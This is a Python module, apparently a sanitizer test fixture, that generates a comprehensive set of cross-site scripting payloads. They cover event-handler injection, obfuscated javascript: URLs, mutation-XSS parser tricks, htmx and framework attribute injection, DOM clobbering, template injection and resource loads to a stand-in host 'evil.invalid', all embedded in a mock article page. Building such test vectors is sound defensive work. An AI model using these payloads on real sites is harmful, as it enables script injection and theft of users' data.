"""Pieces of HTML that somebody would hide in an article: one of every kind known here, in every clothing. Our own.

Each would call ``hit()``, or fetch from ``evil.invalid``, if a browser ever took it for more than text.
"""

from collections.abc import Iterator
from itertools import product

CALL = "hit()"
AWAY = "//evil.invalid/x"
VOID = ("img", "input", "video", "audio", "svg", "body", "details", "iframe", "object", "embed", "marquee", "form")
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart")
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java&#10;script:{call}",
    "&#106;avascript:{call}",
    "&#x6A&#x61vascript:{call}",
    "\x01javascript:{call}",
    "\u2028javascript:{call}",
    "javascript&colon;{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "blob:http://127.0.0.1/x",
    "filesystem:http://127.0.0.1/x",
    "//evil.invalid/\\@127.0.0.1",
)
CARRIERS = (
    '<a href="{url}">words</a>',
    '<form action="{url}"><button>words</button></form>',
    '<iframe src="{url}"></iframe>',
    '<svg><a xlink:href="{url}"><text>words</text></a></svg>',
    '<math><mi href="{url}">words</mi></math>',
)
HTMX = (
    *('hx-get="{away}" hx-trigger="load"', 'data-hx-get="{away}" data-hx-trigger="load"', 'hx-post="{away}"'),
    *('hx-on:load="{call}"', 'hx-on::load="{call}"', 'hx-on="htmx:load: {call}"', "hx-vals='js:{{x: {call}}}'"),
    *('sse-connect="{away}"', 'ws-connect="{away}"', 'hx-ext="sse"', 'hx-boost="true"', 'hx-swap-oob="true" id="desk"'),
    *('_="on load call {call}"', 'x-init="{call}"', '@click="{call}"', 'v-on:click="{call}"', 'hx-headers="js:{call}"'),
)
WHOLE = (
    *("<script>{call}</script>", "<script src={away}></script>", "<SCRIPT/x>{call}</SCRIPT>", "<scr<script>ipt>{call}"),
    *("<svg><script>{call}</script></svg>", "<svg/onload={call}>", "<svg><animate onbegin={call} attributeName=x dur=1s>"),
    *("<svg><set attributeName=href to=javascript:{call}>", "<svg><use href='data:image/svg+xml,<svg onload={call}>'>"),
    *("<svg><foreignObject><body onload={call}></foreignObject></svg>", "<svg><style><img src=x onerror={call}></style>"),
    *("<math><mtext><table><mglyph><style><img src=x onerror={call}>", "<math><annotation-xml encoding='text/html'><img src=x onerror={call}>"),
    *("<noscript><p title='</noscript><img src=x onerror={call}>'>", "<xmp><p title='</xmp><img src=x onerror={call}>'>"),
    *("<textarea><p title='</textarea><img src=x onerror={call}>'>", "<title><p title='</title><img src=x onerror={call}>'>"),
    *("<noembed><img src=x onerror={call}></noembed>", "<plaintext><img src=x onerror={call}>", "<template><img src=x onerror={call}></template>"),
    *("<!--><img src=x onerror={call}>-->", "<!--!><img src=x onerror={call}>", "<![CDATA[><img src=x onerror={call}>]]>", "<?x ><img src=x onerror={call}>?>"),
    *("&lt;img src=x onerror={call}&gt;", "&amp;lt;script&amp;gt;{call}", "<img src='x' alt='`><img src=x onerror={call}>'>"),
    *("<style>@import '{away}';</style>", "<style>*{{background:url({away})}}</style>", "<link rel=stylesheet href={away}>"),
    *("<link rel=prefetch href={away}>", "<link rel=dns-prefetch href={away}>", "<meta http-equiv=refresh content='0;url={away}'>"),
    *("<meta name=htmx-config content='{{\"allowEval\":true}}'>", "<base href={away}>", "<img src={away}>", "<img srcset='{away} 2x'>"),
    *("<picture><source srcset={away}></picture>", "<video poster={away}></video>", "<audio src={away} autoplay></audio>"),
    *("<a href=/ ping={away}>words</a>", "<table background={away}><tr><td>words</td></tr></table>", "<body background={away}>"),
    *("<p style='background:url({away})'>words</p>", "<div style='position:fixed;inset:0'><a href={away}>words</a></div>"),
    *("<object data={away}></object>", "<embed src={away}>", "<applet code={away}></applet>", "<frameset onload={call}>"),
    *("<form id=htmx><input name=config></form>", "<img name=cookie>", "<a id=location name=location>words</a>", "<form name=forms><input name=0>"),
    *("<input autofocus onfocus={call}>", "<button popovertarget=popover>words</button>", "<dialog open>words</dialog>"),
    *("<iframe srcdoc='<script>{call}</script>'></iframe>", "<isindex action={away}>", "<portal src={away}></portal>"),
    *("<p id=article class=card data-key=1 data-a=1>words</p>", "<mark data-a='1'>words</mark>", "<p contenteditable>words</p>"),
    *("{{{{7*7}}}}{{% debug %}}", "${{{call}}}", "<%= {call} %>", "</main></body><script>{call}</script>", "<p lang='x\" onclick=\"{call}'>words</p>"),
)  # fmt: skip


def vectors() -> list[str]:
    """Return all of them."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for tag, handler in product(VOID, HANDLERS):
        yield f"<{tag} src=x {handler}={CALL} tabindex=1>words"
    for scheme, carrier in product(SCHEMES, CARRIERS):
        yield carrier.format(url=scheme.format(call=CALL))
    for attributes in HTMX:
        yield f"<p {attributes.format(call=CALL, away=AWAY)}>words</p>"
    for whole in WHOLE:
        yield whole.format(call=CALL, away=AWAY)


def page(markup: list[str]) -> str:
    """Return an article with a piece of markup in each of its paragraphs."""
    paragraphs = "".join(
        f"<p>Paragraph {number} of a long article about talks and about what was said there. {piece}</p>\n"
        for number, piece in enumerate(markup)
    )
    head = "<!doctype html><html lang=en><head><meta charset=utf-8><title>An article about talks</title></head>"
    return f"{head}<body><article><h1>An article about talks</h1>\n{paragraphs}</article></body></html>"
